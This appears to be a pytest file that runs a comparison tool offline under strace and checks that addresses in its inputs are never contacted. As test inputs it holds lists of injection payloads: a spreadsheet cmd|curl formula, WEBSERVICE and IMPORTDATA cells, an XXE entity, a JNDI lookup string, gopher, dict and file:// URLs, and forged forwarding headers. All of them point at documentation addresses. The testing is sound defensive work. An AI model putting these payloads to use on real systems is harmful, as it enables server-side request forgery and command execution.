"""The product needs no network and asks for none: it runs without one, and addresses in its input are not called.

Its programs run where no network is (`unshare --net`), under `strace`, which sees every connect() of theirs and of
the processes that they start. Where this machine does not permit one of the two, the tests say so and are left out.
"""

import json
import os
import re
import shutil
import subprocess
import sys
from functools import cache
from pathlib import Path

import pytest
from builders import make_criteria, make_criterion, make_visits
from xlsx_files import plain_workbook

pytestmark = pytest.mark.slow

TESTS = Path(__file__).parent
_CALL = re.compile(r"connect\(\d+, \{sa_family=(AF_\w+)(.*)")


@cache
def without_network() -> tuple[str, ...]:
    """The words that start a program without a network, and `strace`; skips where that is not permitted."""
    if shutil.which("strace") is None:
        pytest.skip("strace is not installed; on Debian: apt-get install strace")
    for words in (("unshare", "--net"), ("unshare", "--map-root-user", "--net")):
        if (
            shutil.which(words[0])
            and subprocess.run([*words, "true"], capture_output=True, check=False).returncode == 0
        ):
            break
    else:
        pytest.skip("this machine does not permit network namespaces (unshare --net)")
    traced = (*words, "strace", "-f", "--seccomp-bpf", "-qq", "-e", "trace=connect", "-o")
    if subprocess.run([*traced, os.devnull, "true"], capture_output=True, check=False).returncode:
        pytest.skip("this machine does not permit strace")
    return traced


def calls_of(folder: Path, *command: object, code: int = 0) -> tuple[list[str], str]:
    """Connections outside this machine that a program tried, and what it printed."""
    trace = folder / "trace.txt"
    environment = {
        "PATH": os.environ["PATH"], "HOME": str(folder), "LANG": "C.UTF-8", "PYTHONPATH": str(TESTS),
        "REGISTRY_DATABASE_URL": f"sqlite:///{folder / 'own.db'}",
    }  # fmt: skip
    done = subprocess.run(
        [*without_network(), trace, *map(str, command)], cwd=folder, env=environment, capture_output=True, check=False
    )
    text = done.stdout.decode() + done.stderr.decode()
    assert done.returncode == code, text
    return outside(trace.read_text("utf-8", "replace")), text


def outside(trace: str) -> list[str]:
    """Lines of a trace that name another machine."""
    found = []
    for line in trace.splitlines():
        call = _CALL.search(line)
        is_own = call is not None and (
            call[1] in {"AF_UNIX", "AF_UNSPEC"} or "127.0.0.1" in call[2] or '"::1"' in call[2]
        )
        if call is not None and not is_own:
            found.append(line)
    return found


def registry(*arguments: object) -> list[object]:
    return [sys.executable, "-m", "registry", *arguments]


@pytest.mark.parametrize(
    "program",
    [
        "socket.create_connection(('192.0.2.1', 80), 1)",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('192.0.2.1', 53))",
        "subprocess.run([sys.executable, '-c', \"import socket; socket.create_connection(('2001:db8::1', 80), 1)\"])",
        "jsonschema_rs.validator_for({'$ref': 'http://192.0.2.1/x.json'})",
    ],
)
def test_a_program_that_calls_is_seen(tmp_path: Path, program: str) -> None:
    text = f"import contextlib, jsonschema_rs, socket, subprocess, sys\nwith contextlib.suppress(Exception): {program}"

    calls, _ = calls_of(tmp_path, sys.executable, "-c", text)

    assert calls


def test_the_demonstration_runs_without_a_network(tmp_path: Path) -> None:
    calls, text = calls_of(tmp_path, *registry("demo", "--no-serve", "--folder", tmp_path / "demo"))

    assert calls == []
    assert "Written to" in text
    assert (tmp_path / "demo" / "chart.png").stat().st_size > 1000


def write_inputs(folder: Path) -> list[object]:
    """Files of a comparison, the reports as a workbook; the options that name them."""
    reports, checks, criteria = make_visits({"甲": [(1, 3), (0, 3)], "乙": [(0, 3)]})
    rows = [list(reports.columns), *reports.to_numpy().tolist()]
    (folder / "reports.xlsx").write_bytes(plain_workbook(("S", rows)))
    checks.to_parquet(folder / "checks.parquet")
    (folder / "criteria.json").write_text(json.dumps(criteria), encoding="utf-8")
    names = {"--reports": "reports.xlsx", "--spot-checks": "checks.parquet", "--criteria": "criteria.json"}
    return [part for option, name in names.items() for part in (option, folder / name)]


def test_so_do_a_comparison_its_recording_and_its_replay(tmp_path: Path) -> None:
    files = write_inputs(tmp_path)

    calls, text = calls_of(tmp_path, *registry("compare", *files, "--record", "--folder", tmp_path / "out"))
    identifier = re.search(r"Recorded as (\S+)", text)
    assert identifier is not None
    more, replayed = calls_of(tmp_path, *registry("comparisons", "replay", identifier[1]))

    assert calls == more == []
    assert "Identical" in replayed


A, HOST = "http://192.0.2.1/x", "192.0.2.1"
ADDRESSES = [A, "https://192.0.2.1/x.json", "ftp://192.0.2.1/x", "file:///etc/hostname", "//192.0.2.1/x",
             "\\\\192.0.2.1\\share\\x", "gopher://192.0.2.1/x", "s3://bucket/x", "gs://bucket/x", "hdfs://192.0.2.1/x",
             "http://example.com/x", "http://[2001:db8::1]/x", "http://3221225985/x", "dict://192.0.2.1:11/x",
             "jar:http://192.0.2.1!/x", "data:text/csv,a"]  # fmt: skip
# What jsonschema, pandas, pyarrow, spreadsheets and web servers are known to follow.
DOCUMENTS = [{keyword: address} for address in ADDRESSES[:6] for keyword in ("$ref", "$schema", "$id", "$dynamicRef")]
CELLS = [f'=WEBSERVICE("{A}")', f'=HYPERLINK("{A}","x")', f"=cmd|'/C curl {A}'!A0", f'=IMPORTDATA("{A}")',
         f'<img src="{A}">', f"<!ENTITY x SYSTEM '{A}'>", "${jndi:ldap://192.0.2.1/x}", "`curl 192.0.2.1`"]  # fmt: skip
HEADERS = [{"x-forwarded-host": HOST}, {"forwarded": f"host={HOST}"}, {"referer": A}, {"x-original-url": A},
           {"x-webhook-url": A}, {"link": f"<{A}>; rel=preload"}, {"from": f"a@{HOST}"}, {"via": HOST}]  # fmt: skip
PAYLOADS = len(ADDRESSES) * 2 + len(DOCUMENTS) + len(CELLS) + len(HEADERS)


# The API in one process, as the tests of the API use it, with each payload wherever it can stand.
SEND = """
import json, os, sys
from pathlib import Path
from api_requests import COMPARISONS, client_of, make_body, make_files
from builders import make_check, make_criterion, make_report
from registry.own_database import open_own_database
documents, cells, headers, addresses = json.loads(sys.stdin.read())
client = client_of(open_own_database(os.environ["REGISTRY_DATABASE_URL"]))
CHECK = f"{COMPARISONS}?dry_run=true"
answers = [client.post(COMPARISONS, json=make_body())]
for each in documents:
    for criteria in (make_body()["criteria"] | each, {"criteria": [make_criterion(**each)]}, each):
        answers.append(client.post(CHECK, json=make_body(criteria=criteria)))
for each in [*cells, *addresses]:
    body = make_body(reports=[make_report(evaluator_id=each)], spot_checks=[make_check()])
    answers.append(client.post(COMPARISONS, json=body))
for each in addresses:
    for name in ("zone", "encoding"):
        answers.append(client.post(CHECK, json=make_body(options={name: each})))
    answers.append(client.post(CHECK, json=make_body(options={"columns": {each: "value"}})))
    answers.append(client.post(CHECK, json=make_body(reports=each)))
    files = make_files()
    answers.append(client.post(COMPARISONS, files=files | {"reports": (each, each.encode())}))
    answers.append(client.post(CHECK, files=files | {"reports": (each, files["reports"][1])}))
    answers.append(client.get(COMPARISONS, params={"cursor": each}))
for each in headers:
    answers.append(client.post(COMPARISONS, json=make_body(), headers=each))
statuses = [each.status_code for each in answers]
assert statuses[0] == 201 and max(statuses) < 500, statuses
print(len(answers), "answers")
"""


def test_addresses_in_requests_are_not_called(tmp_path: Path) -> None:
    program, payload = tmp_path / "send.py", tmp_path / "payload.json"
    payload.write_text(json.dumps([DOCUMENTS, CELLS, HEADERS, ADDRESSES]), encoding="utf-8")
    program.write_text(SEND.replace("sys.stdin.read()", f"Path({str(payload)!r}).read_text('utf-8')"), encoding="utf-8")

    calls, text = calls_of(tmp_path, sys.executable, program)

    assert PAYLOADS >= 50
    assert int(text.split()[-2]) > PAYLOADS
    assert calls == []


# Files and options of the command line, many in one process.
COMPARE = """
import contextlib, json, sys
from pathlib import Path
from faces import run_command
documents, addresses, files = json.loads(sys.stdin.read())
codes = []

def compare(**changes):
    options = files | {f"--{name.replace('_', '-')}": value for name, value in changes.items()}
    codes.append(run_command("compare", *[part for option in options.items() for part in option])[0])

for each in addresses:
    for option in ("reports", "spot_checks", "criteria", "columns", "zone", "encoding"):
        compare(**{option: each})
for each in documents:
    Path("document.json").write_text(json.dumps(each), encoding="utf-8")
    compare(criteria="document.json")
    compare(columns="document.json")
assert set(codes) <= {0, 1, 2, 3}, codes
print(len(codes), "codes")
"""


def test_addresses_on_the_command_line_are_not_called(tmp_path: Path) -> None:
    options = [str(each) for each in write_inputs(tmp_path)]
    files = dict(zip(options[::2], options[1::2], strict=True))
    mappings = [{name: address} for address in ADDRESSES for name in ("site_id", address)]
    criteria = [{**make_criteria(make_criterion()), **each} for each in DOCUMENTS]
    program, payload = tmp_path / "compare.py", tmp_path / "payload.json"
    payload.write_text(json.dumps([DOCUMENTS + mappings[:6] + criteria[:4], ADDRESSES, files]), encoding="utf-8")
    text = COMPARE.replace("sys.stdin.read()", f"Path({str(payload)!r}).read_text('utf-8')")
    program.write_text(text, encoding="utf-8")

    calls, text = calls_of(tmp_path, sys.executable, program)

    assert int(text.split()[-2]) >= 50
    assert calls == []
